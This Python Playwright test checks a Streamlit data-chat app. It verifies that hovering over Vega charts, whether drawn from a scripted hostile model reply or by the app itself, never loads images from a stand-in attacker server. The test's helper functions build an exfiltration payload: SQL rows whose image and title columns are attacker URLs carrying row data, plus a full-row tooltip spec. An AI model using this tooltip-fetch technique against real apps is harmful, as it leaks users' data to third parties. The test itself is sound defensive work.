"""A chart that fetches on hover: a model chart asking for the whole row as its tooltip, over a column named
``image`` holding URLs, and the app's own chart over such columns, hovered in Chromium through the real app.

Vega's tooltip handler (vega-tooltip, in Streamlit's frontend) draws a tooltip object's ``image`` key as
``<img src>`` and its ``title`` key as a heading: a point's tooltip must never be keyed by either."""

from __future__ import annotations

import json

import pytest
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError
from playwright.sync_api import expect

from tests.support.fake_endpoint import FakeEndpoint
from tests.support.scripted_model import ScriptedModel, fenced

pytestmark = pytest.mark.browser

POINTS = 12
# Every <img> ever added to the page, noted as it is added (a tooltip's picture is gone once the mouse moves on).
NOTE_IMAGES = """
window.addedImages = [];
new MutationObserver((records) => {
  for (const record of records) for (const node of record.addedNodes) {
    if (node.nodeType !== 1) continue;
    for (const image of [node, ...node.querySelectorAll("img")]) {
      if (image.tagName === "IMG") window.addedImages.push(image.getAttribute("src"));
    }
  }
}).observe(document, { childList: true, subtree: true });
"""


def rows_with_urls(evil: str) -> str:
    """Rows at x/y, each with an ``image`` (five distinct) and a ``title`` that are URLs on the attacker's server,
    carrying the row's number as the data a fetch would leak. With no chart asked for, the app draws a heatmap of
    image by title, whose tooltips show both."""
    return (
        "SELECT i AS x, (i * 7) % 11 AS y, "
        f"'{evil}/image-' || (i % 5) || '.png?row=' || i AS image, '{evil}/title.png?row=' || i AS title "
        f"FROM range(1, {POINTS + 1}) AS t(i)"
    )


def hostile_reply(evil: str) -> str:
    """The probe's reply: points whose tooltip is the row's every column (``content: "data"``)."""
    chart = {
        "mark": {"type": "point", "tooltip": {"content": "data"}, "size": 200},
        "encoding": {
            "x": {"field": "x", "type": "quantitative"},
            "y": {"field": "y", "type": "quantitative"},
        },
    }
    return "```json\n" + json.dumps({"sql": rows_with_urls(evil), "chart": chart}) + "\n```"


def hover(page, mark) -> str | None:  # type: ignore[no-untyped-def]
    """Move the mouse onto ``mark``; the tooltip's HTML, if one shows. Tried again when the page was still
    scrolling (the chat scrolls itself as an answer grows) and the mouse missed the mark."""
    for _ in range(3):
        mark.scroll_into_view_if_needed()  # waits until the mark is still
        x, y = mark.evaluate(
            "m => { const r = m.getBoundingClientRect(); return [r.x + r.width / 2, r.y + r.height / 2] }"
        )
        page.mouse.move(0, 0)  # off the chart first: moved from one mark straight onto the next, Vega may not show it
        page.mouse.move(x, y)
        try:  # Vega shows the tooltip on its next frame; on a loaded machine that can be a moment later
            shown = page.wait_for_function(
                "document.querySelector('.vg-tooltip.visible')?.innerHTML ?? null", timeout=2_000
            ).json_value()
        except PlaywrightTimeoutError:
            continue
        if shown:
            return shown
    return None


def hover_points(page, chart) -> tuple[set[str], list[str]]:  # type: ignore[no-untyped-def]
    """Hover every mark of ``chart`` (Streamlit draws Vega as SVG): what the marks are, and the tooltips shown."""
    marks = chart.locator("g.role-mark path[role='graphics-symbol']")
    expect(marks).to_have_count(POINTS, timeout=90_000)  # the chart is drawn, one mark per row
    kinds = set(marks.evaluate_all("marks => marks.map(m => m.getAttribute('aria-roledescription'))"))
    shown = [hover(page, marks.nth(index)) for index in range(POINTS)]
    page.mouse.move(0, 0)
    return kinds, [html for html in shown if html]


def test_hovering_a_model_chart_or_the_apps_own_fetches_nothing(
    page,  # type: ignore[no-untyped-def]
    owner_app: str,
    endpoint: FakeEndpoint,
    second_endpoint: FakeEndpoint,
) -> None:
    evil = second_endpoint.url  # plays the attacker's server: every request it gets is recorded
    model = ScriptedModel(insight="Twelve points.")
    model.on("model chart", hostile_reply(evil))
    model.on("own chart", fenced(rows_with_urls(evil)))
    endpoint.responder = model
    fetched: list[str] = []
    page.add_init_script(NOTE_IMAGES)
    page.on("request", lambda request: fetched.append(request.url) if request.url.startswith(evil) else None)
    page.goto(owner_app)
    box = page.get_by_placeholder("Ask a question about the data")
    for number, question in enumerate(("Points with the model chart", "Points with your own chart")):
        box.fill(question)
        box.press("Enter")
        page.get_by_text("tgi · answered in").nth(number).wait_for()  # the answer is complete
    # Hovered once both answers are there: the chat no longer scrolls itself as an answer grows.
    kinds: list[set[str]] = []
    tooltips: list[list[str]] = []
    for number in range(2):
        marks, shown = hover_points(page, page.locator(".vega-embed").nth(number))
        kinds.append(marks)
        tooltips.append(shown)
    images = [src for src in page.evaluate("window.addedImages") if evil in (src or "")]
    # Each chart was drawn and every mark, hovered, showed a tooltip ...
    assert [len(shown) for shown in tooltips] == [POINTS, POINTS], tooltips
    # ... and nothing was fetched from the attacker's server: no image put in the page, no request sent or received,
    assert (images, fetched, [r.path for r in second_endpoint.requests]) == ([], [], [])
    # no heading or image in any tooltip: the app's own tooltips, showing the columns as text. The model's chart
    # is drawn as the app draws points (its mark and columns kept, nothing else); the app's own is a heatmap.
    assert [html for html in sum(tooltips, []) if "<h2>" in html or "<img" in html] == []
    assert kinds == [{"circle"}, {"rect mark"}]
    assert all(">X<" in html and ">Y<" in html and "image" not in html for html in tooltips[0])
    assert all(">Image<" in html and ">Title<" in html for html in tooltips[1])
